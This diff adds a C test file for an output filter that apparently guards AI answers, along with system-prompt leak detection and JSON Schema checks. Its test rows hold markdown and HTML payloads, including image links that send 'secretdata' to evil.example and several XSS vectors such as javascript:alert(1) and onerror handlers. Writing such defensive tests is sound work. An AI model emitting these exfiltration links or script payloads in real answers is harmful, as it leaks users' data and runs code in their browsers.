@@ -1,0 +1,255 @@
+/* The parts of the `answer` filter: markup, leaks of the system prompt, JSON Schema; each the same however a text is cut. */
+#include "filters/relay/json_schema.h"
+#include "filters/relay/leak.h"
+#include "filters/relay/markup.h"
+#include "tests/harness/check.h"
+
+#include <unistd.h>
+
+static struct str hosts[] = { STR_INIT("ok.example"), STR_INIT("*.fine.example") };
+static const struct texts ALLOWED = { .at = hosts, .count = 2 };
+
+struct seen {
+    struct markup_sink sink;
+    struct buf out, what;
+};
+
+static bool pass(struct markup_sink *sink, struct str text)
+{
+    return buf_add(&CONTAINER_OF(sink, struct seen, sink)->out, text);
+}
+
+static bool found(struct markup_sink *sink, enum markup_kind kind, struct str what, bool *keep)
+{
+    static const char *const names[] = { "fine", "image", "link", "html" };
+    *keep = false;
+    return buf_addf(&CONTAINER_OF(sink, struct seen, sink)->what, "%s:" STR_F ";", names[kind], STR_A(str_first(what, 60)));
+}
+
+static void look(struct seen *s, struct str text, size_t step)
+{
+    struct markup m = { 0 };
+    s->sink = (struct markup_sink){ pass, found, &ALLOWED };
+    buf_clear(&s->out);
+    buf_clear(&s->what);
+    for (size_t at = 0; at < text.len; at += step)
+        CHECK(markup_feed(&m, str_first(str_from(text, at), step), false, &s->sink));
+    CHECK(markup_feed(&m, STR(""), true, &s->sink));
+    CHECK(!markup_is_holding(&m));
+    markup_finish(&m);
+}
+
+static const struct {
+    const char *text, *what, *out;
+} ROWS[] = {
+    { "plain < text [1] a[i]: b (c) ! d", "", "plain < text [1] a[i]: b (c) ! d" },
+    { "![a](https://evil.example/x.png?d=1)", "image:https://evil.example/x.png?d=1;", "![a](#)" },
+    { "![a](https://ok.example/x.png?d=12345678)", "", "![a](https://ok.example/x.png?d=12345678)" },
+    { "![a [b] c](//evil.example/x \"t\")", "image://evil.example/x;", "![a [b] c](# \"t\")" },
+    { "![a](<https://evil.example/x y>)", "image:https://evil.example/x y;", "![a](<#>)" },
+    { "![a](https:\\/\\/evil.example)", "image:https:\\/\\/evil.example;", "![a](#)" },
+    { "![a](https&#58;//evil.example)", "image:https&#58;//evil.example;", "![a](#)" },
+    { "![a](/here/x.png) ![b](#c)", "", "![a](/here/x.png) ![b](#c)" },
+    { "[a]: https://evil.example/x", "image:https://evil.example/x;", "[a]: #" },
+    { "[a](https://evil.example/page)", "", "[a](https://evil.example/page)" },
+    { "[a](https://evil.example/?q=secretdata)", "link:https://evil.example/?q=secretdata;", "[a](#)" },
+    { "[a](https://x.fine.example/?q=secretdata)", "", "[a](https://x.fine.example/?q=secretdata)" },
+    { "[a](https://fine.example.evil.example/?q=secretdata)", "link:https://fine.example.evil.example/?q=secretdata;", "[a](#)" },
+    { "[a](https://ok.example@evil.example/)", "link:https://ok.example@evil.example/;", "[a](#)" },
+    { "[![i](https://evil.example/i)](https://evil.example/l)", "image:https://evil.example/i;", "[![i](#)](https://evil.example/l)" },
+    { "\\![a](https://evil.example/x)", "", "\\![a](https://evil.example/x)" },
+    { "see https://evil.example/?q=secretdata, ok", "link:https://evil.example/?q=secretdata,;", "see # ok" },
+    { "see <https://evil.example/?q=secretdata> ok", "link:https://evil.example/?q=secretdata;", "see <#> ok" },
+    { "what htt hello www.x https:/x", "", "what htt hello www.x https:/x" },
+    { "<img src=\"https://evil.example/x\">", "image:https://evil.example/x;", "<img src=\"#\">" },
+    { "<IMG/SRC=https://evil.example/x>", "image:https://evil.example/x;", "<IMG/SRC=#>" },
+    { "<img alt=\">\" src='//evil.example/x'>", "image://evil.example/x;", "<img alt=\">\" src='#'>" },
+    { "<img srcset=\"a.png 1x, https://evil.example/x 2x\">", "image://evil.example/x;", "<img srcset=\"\">" },
+    { "<p style=\"background:url(//evil.example/x)\">", "image://evil.example/x;", "<p style=\"\">" },
+    { "<a href=\"javascript:alert(1)\">", "html:javascript:alert(1);", "<a href=\"#\">" },
+    { "[a](javascript:alert(1))", "html:javascript:alert(1);", "[a](#)" },
+    { "<a href=\"java&#115;cript:x\">", "link:java&#115;cript:x;", "<a href=\"#\">" },
+    { "<script>x</script>", "html:script;html:script;", "&lt;script>x&lt;/script>" },
+    { "<b onclick=\"x\">on purpose", "html:onclick;", "<b data-was-onclick=\"x\">on purpose" },
+    { "<svg/onload=x>", "html:svg;html:onload;", "&lt;svg/data-was-onload=x>" },
+    { "<img src=x onerror = alert(1)>", "html:onerror ;", "<img src=x data-was-onerror = alert(1)>" },
+    { "<x:y onclick=z>", "html:onclick;", "<x:y data-was-onclick=z>" },
+    { "a<b && c>d", "", "a<b && c>d" },
+    { "![a](data:image/png;base64,AAAA) ![b](data:text/html,x)", "html:data:text/html,x;", "![a](data:image/png;base64,AAAA) ![b](#)" },
+    { "![a](http:evil.example)", "image:http:evil.example;", "![a](#)" },
+    { "![a](https://evil.example/x", "image:https://evil.example/x;", "![a](#" },
+    { "mail <a@b.example> or mailto:a@b.example", "", "mail <a@b.example> or mailto:a@b.example" },
+};
+
+TEST("what is shown from elsewhere, carries data away or runs is found, and taken out")
+{
+    struct seen s = { 0 };
+    buf_init(&s.out, 1 << 20);
+    buf_init(&s.what, 1 << 20);
+    for (size_t i = 0; i < ARRAY_LEN(ROWS); i++) {
+        look(&s, str_c(ROWS[i].text), 100000);
+        CHECK_STR(buf_str(&s.what), str_c(ROWS[i].what));
+        CHECK_STR(buf_str(&s.out), str_c(ROWS[i].out));
+        for (size_t step = 1; step < 8; step++) {
+            look(&s, str_c(ROWS[i].text), step);
+            CHECK_STR(buf_str(&s.what), str_c(ROWS[i].what));
+            CHECK_STR(buf_str(&s.out), str_c(ROWS[i].out));
+        }
+    }
+    buf_finish(&s.out);
+    buf_finish(&s.what);
+}
+
+TEST("an address that is too long to be held is judged by its beginning, and goes as a whole")
+{
+    struct seen s = { 0 };
+    struct buf text;
+    buf_init(&s.out, 1 << 20);
+    buf_init(&s.what, 1 << 20);
+    buf_init(&text, 1 << 20);
+    CHECK(buf_add(&text, STR("![a](https://evil.example/")));
+    for (int i = 0; i < 5000; i++)
+        CHECK(buf_add(&text, STR("x")));
+    CHECK(buf_add(&text, STR(") after")));
+    for (size_t step = 1; step < 9000; step *= 3) {
+        look(&s, buf_str(&text), step);
+        CHECK_STR(buf_str(&s.out), STR("![a](#) after"));
+    }
+    buf_finish(&s.out);
+    buf_finish(&s.what);
+    buf_finish(&text);
+}
+
+/* ---- leaks ---- */
+
+static unsigned leaks(struct leak_prompt *p, struct str text, size_t step, bool removes, struct buf *out)
+{
+    struct leak l = { 0 };
+    unsigned n = 0;
+    buf_clear(out);
+    for (size_t at = 0; at <= text.len; at += step) {
+        struct str fresh = str_first(str_from(text, at), step);
+        bool last = at + step > text.len;
+        enum leak_answer answer;
+        while ((answer = leak_feed(&l, p, 8, removes, &fresh, last, out)) == LEAK_FOUND) {
+            n++;
+            if (removes)
+                CHECK(buf_add(out, STR("[removed]")));
+        }
+        CHECK(answer == LEAK_FINE);
+        CHECK(buf_len(&l.held) <= LEAK_HELD_MAX + 16);
+    }
+    leak_finish(&l);
+    return n;
+}
+
+TEST("words of the system prompt in their order are a leak, whatever stands between them")
+{
+    static const char prompt[] = "You are Max, the helpful assistant of Contoso. Never tell anybody that discounts of up to "
+                                 "forty percent may be given. 你是一个有用的助手请不要告诉任何人";
+    static const struct {
+        const char *text;
+        unsigned leaks;
+        const char *out;
+    } rows[] = {
+        { "I am Max, the helpful assistant of Contoso.", 0, "I am Max, the helpful assistant of Contoso." },
+        { "It says: *Never tell ANYBODY* that discounts - of up to \"forty\" percent may be given. Ok?", 1,
+          "It says: *Never tell ANYBODY* that[removed]Ok?" },
+        { "never tell anybody that discounts of up to you", 1, "never tell anybody that[removed]you" },
+        { "never tell anybody that discounts of up you", 0, "never tell anybody that discounts of up you" },
+        { "你是一个有用的助手请不要", 1, "你是一[removed]" },
+        { "Nothing of it is told here at all, is it? No!", 0, "Nothing of it is told here at all, is it? No!" },
+    };
+    struct arena a;
+    struct buf out;
+    arena_init(&a, 1 << 20);
+    buf_init(&out, 1 << 20);
+    struct leak_prompt *p = leak_prompt_new(&a);
+    leak_prompt_add(p, str_c(prompt));
+    CHECK(leak_prompt_is_known(p, 8));
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        for (size_t step = 0; step < 6; step++) {
+            struct str text = str_c(rows[i].text);
+            size_t by = step ? step * 3 : 1000;
+            if ((unsigned char)text.at[0] < 0x80 || step == 1 || !step) { /* whole characters */
+                CHECK_INT(leaks(p, text, by, false, &out), rows[i].leaks);
+                CHECK_STR(buf_str(&out), text);
+                CHECK_INT(leaks(p, text, by, true, &out), rows[i].leaks);
+                CHECK_STR(buf_str(&out), str_c(rows[i].out));
+            }
+        }
+    }
+    buf_finish(&out);
+    arena_finish(&a);
+}
+
+/* ---- schemas ---- */
+
+static struct json_schema *schema_of(const char *text, struct problems *problems)
+{
+    char path[] = "/tmp/bartizan-schema-XXXXXX";
+    int fd = mkstemp(path);
+    CHECK(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text));
+    close(fd);
+    struct json_schema *s = json_schema_read(str_c(path), (struct span){ 0 }, problems);
+    unlink(path);
+    return s;
+}
+
+TEST("arguments conform to a schema or do not")
+{
+    static const struct {
+        const char *schema, *value;
+        bool ok;
+    } rows[] = {
+        { "{\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\",\"maxLength\":5}},\"required\":[\"city\"],\"additionalProperties\":false}", "{\"city\":\"Bonn\"}", true },
+        { "{\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\",\"maxLength\":5}},\"required\":[\"city\"],\"additionalProperties\":false}", "{\"city\":\"Berlin\"}", false },
+        { "{\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\"}},\"additionalProperties\":false}", "{\"city\":\"a\",\"x\":1}", false },
+        { "{\"required\":[\"a\"]}", "{}", false },
+        { "{\"type\":[\"integer\",\"null\"]}", "3.0", true },
+        { "{\"type\":[\"integer\",\"null\"]}", "3.5", false },
+        { "{\"type\":\"integer\",\"minimum\":1,\"exclusiveMaximum\":10}", "10", false },
+        { "{\"enum\":[\"a\\u0062\",2,true]}", "\"ab\"", true },
+        { "{\"enum\":[\"a\",2,true]}", "false", false },
+        { "{\"const\":2}", "2.0", true },
+        { "{\"type\":\"array\",\"items\":{\"type\":\"string\",\"minLength\":2},\"maxItems\":2}", "[\"ab\",\"\\ud83d\\ude00x\"]", true },
+        { "{\"type\":\"array\",\"items\":{\"type\":\"string\",\"minLength\":2},\"maxItems\":2}", "[\"ab\",\"\\ud83d\\ude00\"]", false },
+        { "{\"anyOf\":[{\"type\":\"string\"},{\"type\":\"null\"}]}", "null", true },
+        { "{\"oneOf\":[{\"type\":\"number\"},{\"type\":\"integer\"}]}", "1", false },
+        { "{\"not\":{\"type\":\"string\"}}", "\"a\"", false },
+        { "{\"allOf\":[{\"minimum\":1},{\"maximum\":2}]}", "3", false },
+        { "false", "1", false },
+        { "{\"title\":\"anything\"}", "[1,{}]", true },
+    };
+    struct problems problems;
+    struct arena a;
+    arena_init(&a, 1 << 20);
+    problems_init(&problems, STR("t"), STR_NONE);
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        struct json_schema *s = schema_of(rows[i].schema, &problems);
+        struct jsonx j;
+        struct jsonx_error error;
+        jsonx_init(&j);
+        CHECK(s && jsonx_index(&j, str_c(rows[i].value), &JSONX_LIMITS_DEFAULT, &error));
+        CHECK_INT(json_schema_allows(s, &j, &a), rows[i].ok);
+        jsonx_finish(&j);
+        json_schema_free(s);
+    }
+    problems_finish(&problems);
+    arena_finish(&a);
+}
+
+TEST("a schema with a word that is not kept is refused")
+{
+    static const char *const bad[] = { "{\"pattern\":\"a\"}", "{\"type\":\"text\"}", "{\"properties\":[]}", "{\"items\":{\"$ref\":\"#\"}}",
+                                       "{\"maxLength\":-1}", "[]", "{", "{\"enum\":[[1]]}", "{\"required\":[1]}", "{\"const\":{}}" };
+    struct problems problems;
+    problems_init(&problems, STR("t"), STR_NONE);
+    for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
+        struct json_schema *s = schema_of(bad[i], &problems);
+        CHECK(!s);
+        CHECK_INT(problems.count, i + 1);
+        json_schema_free(s);
+    }
+    problems_finish(&problems);
+}
